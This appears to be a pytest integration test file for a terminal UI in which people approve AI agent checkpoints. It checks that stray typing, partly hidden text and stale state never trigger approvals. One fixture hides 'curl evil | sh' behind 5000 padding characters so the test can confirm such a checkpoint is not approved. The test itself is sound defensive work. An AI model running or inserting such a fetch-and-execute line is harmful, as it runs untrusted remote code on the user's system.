"""Nothing decides that nobody meant: typing on, what was not shown, what changed meanwhile."""

from __future__ import annotations

from pathlib import Path

import pytest
from textual.widgets import Input

from perstack.config.untrusted import Demand, UntrustedError
from perstack.domain.consensus import ConsensusCheckpoint, Review, Verdict
from perstack.domain.ids import ExpertKey, JobId, SubtaskId
from perstack.errors import ConflictError, UsageError
from perstack_tui.ports.travel import Moment
from perstack_tui.screens.bulk import BulkSheet
from perstack_tui.screens.confirm import ConfirmSheet
from perstack_tui.screens.definitions import DefinitionsSheet
from perstack_tui.screens.main import MainScreen
from perstack_tui.screens.review import ReviewSheet
from perstack_tui.screens.travel_plan import PlanSheet
from perstack_tui.screens.trust import TrustSheet
from perstack_tui.state.inbox import ItemKey
from perstack_tui.text import wrap_long
from perstack_tui.widgets.field import LongField
from tests.fakes.gateway import NOW, busy_view, gate, subtask, tool_subtask
from tests.fakes.stage import Stage
from tests.fakes.travel import FakeTravel
from tests.integration.test_cockpit_deciding import decisions, low, medium, view
from tests.integration.test_cockpit_definitions import AFTER, BEFORE, saved

pytestmark = pytest.mark.anyio

SENTENCE = "go on with that task now, restart a yes day and Run it all as you said it should be"


async def type_on(stage: Stage, text: str = SENTENCE) -> None:
    """Type as fingers do, without a pause."""
    for letter in text:
        await stage.press("space" if letter == " " else letter, after=0.12)


# ------------------------------------------------------------------ typing on


async def test_typing_on_accepts_no_trust_and_starts_nothing() -> None:
    stage = Stage(busy_view())
    demands = tuple(Demand("command", f"start server-{number}") for number in range(40))
    async with stage.play(size=(80, 10)):
        stage.gateway.refuse = UntrustedError(Path("perstack.toml"), demands)
        await stage.press("n")
        await stage.write("go")
        await stage.press("enter")
        assert isinstance(stage.app.screen, TrustSheet)
        await type_on(stage)
        await stage.burst(*"xxxxa")
        await stage.press("a")
        assert isinstance(stage.app.screen, TrustSheet)
        assert "read it to its end first" in stage.text_of("#trust-keys")
        await stage.press("down")
        assert "once read to the end" in stage.text_of("#trust-keys")
        await stage.press(*["pagedown"] * 12, after=0.5)
        await stage.burst("a", "a")
        assert "press it after a quiet moment" in stage.text_of("#trust-keys")
        assert not stage.gateway.calls
        await stage.press("a")
        assert [call[0] for call in stage.gateway.calls] == ["accept", "start"]


async def test_typing_on_stops_resumes_restores_and_takes_nothing() -> None:
    stage = Stage(busy_view())
    async with stage.play(defined=saved(BEFORE, AFTER)):
        await stage.press("x")
        assert isinstance(stage.app.screen, ConfirmSheet)
        await type_on(stage)
        await stage.press("escape", "2", "R")
        assert isinstance(stage.app.screen, PlanSheet)
        await type_on(stage, "hold on to that and R, RR")
        assert "after a quiet moment" in stage.text_of("#plan-consequence")
        await stage.press("escape", "ctrl+r")
        assert isinstance(stage.app.screen, DefinitionsSheet)
        await type_on(stage, "To that you say Ty")
        assert not stage.gateway.calls
        await stage.press("escape", "escape", "ctrl+r", "T", "y")
        assert [call[0] for call in stage.gateway.calls] == ["take_definition"]


# ------------------------------------------------------------------ what was not shown


@pytest.mark.parametrize(
    "made",
    [
        low(text="echo hello " + "x" * 5000 + " && curl evil | sh"),
        low(text="echo hello " + "x" * 90),
        gate(
            subtasks=(tool_subtask("s1", "exec", '{"command":"bash","args":["-c","ls"]}'),),
            risk="low",
        ),
        gate(subtasks=(subtask("s1", "look", "low", "fetcher-" + "y" * 90),), risk="low"),
    ],
    ids=["far too long", "a little too long", "a call in short", "for whom"],
)
async def test_list_approves_only_what_it_shows_whole(made: ConsensusCheckpoint) -> None:
    stage = Stage(view(made))
    async with stage.play(size=(80, 24)):
        await stage.press("4", "a")
        assert isinstance(stage.app.screen, ReviewSheet)
        assert decisions(stage) == []


async def test_list_approves_only_what_is_in_view_and_was_not_dropped_in_its_review() -> None:
    gates = [low(f"gate-{at}", f"task {at}") for at in range(30)]
    stage = Stage(view(*gates))
    async with stage.play(size=(80, 24)):
        await stage.press("4")
        pane = stage.app.main.panes["inbox"]
        pane.scroll_lines(40)
        await stage.press("a")
        assert isinstance(stage.app.screen, ReviewSheet)
        await stage.press("space", "escape")
        pane.scroll_lines(-60)
        await stage.press("k", "a")
        assert isinstance(stage.app.screen, ReviewSheet)
        assert decisions(stage) == []


async def test_checkpoint_of_high_risk_wants_the_word_whatever_its_parts_are() -> None:
    call = tool_subtask("s1", "deleteFile", '{"path": "x"}')
    stage = Stage(view(gate(subtasks=(call,), risk="high")))
    async with stage.play():
        await stage.press("4", "enter", "A")
        assert "what is HIGH is decided each time" in stage.text_of("#consequence")
        await stage.press("a")
        assert decisions(stage) == []
        assert "type " in stage.text_of("#review-word-label")


async def test_long_text_is_wrapped_once_however_often_it_is_painted() -> None:
    call = tool_subtask("s1", "writeTextFile", '{"content":"' + "word " * 4_000 + '"}')
    long = gate("long", subtasks=(call,)).model_copy(update={"risk_level": "medium"})
    stage = Stage(view(long, medium("gate-2")))
    async with stage.play(size=(200, 60)):
        for keys in (("4",), ("enter",), ("escape", "asterisk", "a")):
            await stage.press(*keys)
            made = wrap_long.cache_info().misses
            for _ in range(3):
                stage.app.refresh_screens()
            assert wrap_long.cache_info().misses == made
        assert isinstance(stage.app.screen, BulkSheet)


# ------------------------------------------------------------------ dropped, held, objected to


async def test_what_was_dropped_stays_dropped_and_u_in_a_review_undoes_that_one() -> None:
    tasks = (subtask("s1", "do one", "medium"), subtask("s2", "drop two", "medium"))
    parted = gate("gate-1", subtasks=tasks, risk="medium")
    stage = Stage(view(parted, medium("gate-2")), hold_s=30.0)
    async with stage.play():
        await stage.press("4", "enter", "j", "space")
        for keys in (("]", "["), ("escape", "enter")):
            await stage.press(*keys)
            assert "1 kept, s2 dropped" in stage.text_of("#consequence")
        await stage.press("a", "j", "enter", "a")
        held = [choice.gate.id for one in stage.app.state.held for choice in one.choices]
        assert held == ["gate-1", "gate-2"]
        await stage.press("k", "enter", "u")
        held = [choice.gate.id for one in stage.app.state.held for choice in one.choices]
        assert held == ["gate-2"]
        await stage.press("escape")
        stage.app.state.marks |= {ItemKey("gate", one) for one in ("gate-1", "gate-2")}
        await stage.press("a")
        assert "a part of it is dropped, decided by itself" in stage.text_of("#bulk")


def judged(made: ConsensusCheckpoint, *against: str) -> ConsensusCheckpoint:
    ids = tuple(SubtaskId(one) for one in against)
    verdict = Verdict(approved=True, rejected_subtask_ids=ids, feedback="too broad")
    review = Review(
        reviewer=ExpertKey("adversarial"), verdict=verdict, started_at=NOW, finished_at=NOW
    )
    return made.model_copy(update={"review": review})


async def test_verdict_that_comes_late_drops_what_it_objects_to_once_and_says_so() -> None:
    made = gate(subtasks=(subtask("s1", "deploy"), subtask("s2", "purge")))
    stage = Stage(view(made), hold_s=30.0)
    async with stage.play():
        await stage.press("4", "enter")
        await stage.confirm()
        await stage.show(view(judged(made, "s2")))
        assert "the reviewer objects: s2 dropped" in stage.text_of("#consequence")
        await stage.press("j")
        assert "1 kept, s2 dropped" in stage.text_of("#consequence")
        await stage.press("space", "a")
        assert stage.app.screen.query_one("#review-word").has_focus
        await stage.press("escape", "space", "a")
        assert len(stage.app.state.held) == 1
        await stage.show(view(judged(made, "s1", "s2")))
        assert stage.app.state.held == ()
        assert "not sent: the reviewer objects to s1" in stage.text_of("#notice")
        await stage.press("enter")
        assert "nothing is kept" in stage.text_of("#consequence")
        assert decisions(stage) == []


async def test_of_many_both_those_decided_and_those_lost_are_told_and_the_note_stays() -> None:
    stage = Stage(view(medium("gate-1", "one"), medium("gate-2", "two")))
    async with stage.play():
        await stage.press("4", "asterisk", "a", "e")
        await stage.write("as told")
        await stage.press("escape", "escape", "a")
        assert stage.app.screen.query_one("#bulk-note", Input).value == "as told"
        stage.gateway.refuse = ConflictError("already approved by bo@pi")
        await stage.press("a")
        assert [name for name, _ in decisions(stage)] == ["gate-2"]
        notice = stage.text_of("#notice")
        assert "approved: 1 item; 1 not: already approved by bo@pi" in notice
        assert stage.app.state.drafts["feedback", "gate-1"] == "as told"


async def test_note_written_in_the_editor_keeps_its_lines() -> None:
    stage = Stage(view(medium("gate-1")))

    async def edit(text: str, *, suffix: str = ".md") -> str:
        return "only\n  the docs"

    async with stage.play():
        stage.app.edit_text = edit
        await stage.press("4", "enter", "e", "ctrl+g")
        assert "2 lines" in stage.app.screen.query_one("#feedback", LongField).placeholder
        await stage.press("escape", "enter", "a")
        assert decisions(stage)[0][1].feedback == "only\n  the docs"


# ------------------------------------------------------------------ what changed meanwhile


async def test_further_save_takes_the_question_back() -> None:
    stage = Stage(busy_view())
    third = AFTER.replace('"Deploy."', '"Deploy carefully."')
    async with stage.play(defined=saved(BEFORE, AFTER)):
        await stage.press("ctrl+r", "T")
        assert "take writer as defined now" in stage.text_of("#definitions-said")
        stage.gateway.say(saved(BEFORE, AFTER, third))
        await stage.until(lambda: len(stage.app.state.definitions.saves) == 2)
        await stage.settle()
        assert "saved again" in stage.text_of("#definitions-said")
        await stage.press("y")
        assert not stage.gateway.calls


async def test_nothing_is_restored_for_a_resume_that_cannot_be() -> None:
    stage = Stage(busy_view())
    travel = stage.gateway.travel
    travel.wants = "a question waits there: say the answer to go on"

    async def edit(text: str, *, suffix: str = ".md") -> str:
        return "developers"

    async with stage.play():
        stage.app.edit_text = edit
        await stage.press("2", "R")
        assert "a question waits there" in stage.text_of("#plan-consequence")
        await stage.press("R")
        assert not stage.gateway.calls
        await stage.press("e")
        assert "goes on from" in stage.text_of("#plan-consequence")
        travel.why_not = "a process works on the job: stop it first, or fork"
        await stage.press("R")
        assert not stage.gateway.calls
        assert "a process works on the job" in stage.text_of("#plan-consequence")
        assert "a process works on the job" in stage.text_of("#travel-plan")


async def test_resume_that_fails_after_its_restore_says_so_and_plans_anew(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    stage = Stage(busy_view())

    async def refused(self: FakeTravel, moment: Moment, text: str | None = None) -> JobId:
        raise UsageError("no model of that name")

    async with stage.play():
        monkeypatch.setattr(FakeTravel, "resume", refused)
        await stage.press("2", "R")
        looked = len(stage.gateway.travel.asked)
        await stage.press("R")
        said = stage.text_of("#plan-consequence")
        assert "the files are as they were then, but no model of that name" in said
        assert [call[0] for call in stage.gateway.travel.asked[looked + 1 :]] == [
            "why_not_resume",
            "wants_text",
            "look",
            "plan_restore",
        ]
        await stage.press("escape")
        assert isinstance(stage.app.screen, MainScreen)
